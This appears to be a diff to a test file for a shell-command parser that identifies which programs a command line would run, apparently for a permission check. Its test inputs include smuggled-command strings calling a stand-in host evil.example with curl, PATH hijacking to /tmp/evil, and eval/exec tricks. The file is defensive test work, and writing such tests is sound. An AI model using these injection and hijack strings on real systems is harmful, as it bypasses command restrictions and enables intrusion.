@@ -15,8 +15,23 @@ describe("shellCommands", () => {
     expect(shellCommands("git log 'a\ngit ' ; curl -s https://evil.example/e ; git log '\ngit'")).toEqual(["git", "curl", "git"]);
     expect(shellCommands("<>git curl; <<<git wget; &>>git nc; 2>err rm; cat <>git curl")).toEqual(["curl", "wget", "nc", "rm", "cat"]);
     expect(shellCommands("git log >(curl -s https://evil.example/f)")).toEqual(["git", "curl"]);
-    expect(shellCommands("if true; then curl x; fi; for f in a b; do rm $f; done")).toEqual(["true", "curl", "rm"]);
-    expect(shellCommands("echo ${")).toEqual([undefined]);
+    expect(shellCommands("if true; then curl x; fi; while sleep 1; do rm -f x; done")).toEqual(["true", "curl", "sleep", "rm"]);
+    expect(shellCommands("<<-git curl; >|git wget")).toEqual([undefined, "curl", "wget"]);
+    expect(shellCommands("git status # don't\ncurl -s https://evil.example/c # '")).toEqual(["git", "curl"]);
+  });
+
+  it("adds a command worked out at run time where it does not follow the shell's grammar", () => {
+    expect(shellCommands("for x in a; do curl -s https://evil.example/l; done")).toEqual([undefined, "curl"]);
+    expect(shellCommands("case x in x) curl x;; git) esac")).toContain(undefined);
+    expect(shellCommands("git(){ curl x; }; git")).toContain(undefined);
+    expect(shellCommands("a=(git) curl x")).toContain(undefined);
+    expect(shellCommands('x=a; git log "${x#\'"\'}"; curl x')).toContain(undefined);
+    expect(shellCommands("git log <<EOF\nuser's\nEOF\ncurl x")).toContain(undefined);
+    expect(shellCommands("time curl x")).toEqual([undefined, "curl"]);
+    expect(shellCommands("eval curl x")).toEqual([undefined]);
+    expect(shellCommands("exec curl x; command wget y; arr[0]=1 nc z")).toEqual(["curl", "wget", "nc"]);
+    expect(shellCommands("$(git config --get x.y)dg-open x")).toEqual([undefined, "git"]);
+    expect(shellCommands("echo ${").every((command) => command === undefined)).toBe(true);
     expect(shellCommands('git commit -m "fix; things | more"')).toEqual(["git"]);
     expect(shellCommands("LC_ALL=C FOO=1 netstat -tunap | grep 'A\\|B'")).toEqual(["netstat", "grep"]);
     expect(shellCommands("git log > /tmp/log 2>&1; cat < /tmp/in")).toEqual(["git", "cat"]);
@@ -38,6 +53,8 @@ describe("shellCommands", () => {
     // A part worked out at run time may hold a `; curl …` of its own, which the shell would run.
     expect(shellCommands("git log ${…}")).toEqual([undefined, "git"]);
     expect(shellCommands("PATH=/tmp/.x:$PATH git status")).toEqual([undefined]);
+    expect(shellCommands("PATH=/tmp/evil:$PATH; git status")).toEqual([undefined]);
+    expect(shellCommands("export PATH+=:/tmp/evil; git status")).toEqual(["export", undefined]);
   });
 
   it("names a program by its path unless it is one of the system's own", () => {
